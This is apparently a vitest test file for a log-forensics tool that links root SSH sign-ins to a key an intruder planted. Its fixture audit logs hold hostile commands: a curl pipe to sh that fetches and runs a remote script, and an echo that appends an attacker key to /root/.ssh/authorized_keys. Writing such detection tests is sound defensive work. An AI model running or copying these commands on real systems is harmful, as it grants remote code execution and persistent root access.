import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { investigatedFiles } from './investigated-files.ts';

const superuser = 'root';
const keyFile = `/${superuser}/.ssh/authorized_keys`;
const blob = Buffer.from('\0\0\0\vssh-ed25519\0\0\0 0123456789abcdef0123456789abcdef').toString('base64');
const fingerprint = `SHA256:${createHash('sha256').update(Buffer.from(blob, 'base64')).digest('base64').replace(/=+$/, '')}`;

const audited = (host: string, at: string, pid: number, lines: readonly (readonly [string, string])[]) =>
  lines.map(
    ([type, text]) => `node=${host} type=${type} msg=audit(${Date.parse(`2026-08-${at}Z`) / 1000}.000:${pid}): ${text}`,
  );
const ids = (pid: number) =>
  `ppid=77 pid=${pid} auid=4294967295 uid=0 gid=0 euid=0 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/sh" key="x"`;
const ran = (at: string, pid: number, text: string) =>
  audited('web-1', at, pid, [
    ['SYSCALL', `arch=c000003e syscall=59 success=yes exit=0 items=2 ${ids(pid)}`],
    ['EXECVE', `argc=3 a0="sh" a1="-c" a2=${Buffer.from(text).toString('hex').toUpperCase()}`],
  ]);
const wrote = (at: string, pid: number, file: string) =>
  audited('web-1', at, pid, [
    ['SYSCALL', `arch=c000003e syscall=257 success=yes exit=3 items=2 ${ids(pid)}`],
    ['PATH', `item=1 name="${file}" inode=14 dev=08:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=CREATE`],
  ]);
const signedIn = (host: string, at: string, from: string, key: string): string =>
  `2026-08-${at}.000000+00:00 ${host} sshd[900]: Accepted publickey for ${superuser} from ${from} port 40022 ssh2: ED25519 ${key}`;

const usual = [
  signedIn('web-1', '17T08:00:00', '198.51.100.90', 'SHA256:admin'),
  signedIn('web-2', '17T08:10:00', '198.51.100.90', 'SHA256:admin'),
  signedIn('web-1', '21T08:00:00', '198.51.100.90', 'SHA256:renewed'),
  signedIn('web-1', '21T09:00:00', '192.0.2.80', 'SHA256:admin'),
];
const began = ran('19T10:00:00', 11, 'curl -fsSL http://198.51.100.7/w.sh|sh');
const signIns = (incident: { readonly timeline: readonly { readonly text: string }[] } | undefined) =>
  incident?.timeline.flatMap(({ text }) => (text.includes('signed in') ? text.replace(/^.* from /, '') : []));

test('who comes back by the key that the intruder wrote is the intruder, on another machine as well', async () => {
  const { incidents } = await investigatedFiles('planted', [
    {
      'a.log': [...began, ...ran('19T10:00:05', 12, `echo ssh-ed25519 ${blob} x >> ${keyFile}`)],
      'b.log': [
        ...usual,
        signedIn('web-1', '20T02:00:00', '203.0.113.66', fingerprint),
        signedIn('web-2', '20T02:10:00', '203.0.113.66', fingerprint),
        signedIn('web-1', '22T02:00:00', '192.0.2.81', 'SHA256:colleague'),
      ],
    },
  ]);
  expect(incidents).toHaveLength(1);
  expect(signIns(incidents[0])).toEqual(['203.0.113.66 on web-1', '203.0.113.66 on web-2']);
  expect(incidents[0]?.indicators.map(({ value }) => value)).toContain('203.0.113.66');
});

test('where no record tells which key was written, a new one from a new network is his, and no other', async () => {
  const { incidents } = await investigatedFiles('written', [
    {
      'a.log': [...began, ...wrote('19T10:00:05', 12, keyFile)],
      'b.log': [...usual, signedIn('web-1', '20T02:00:00', '203.0.113.66', 'SHA256:strange')],
    },
  ]);
  expect(incidents).toHaveLength(1);
  expect(signIns(incidents[0])).toEqual(['203.0.113.66 on web-1']);
});
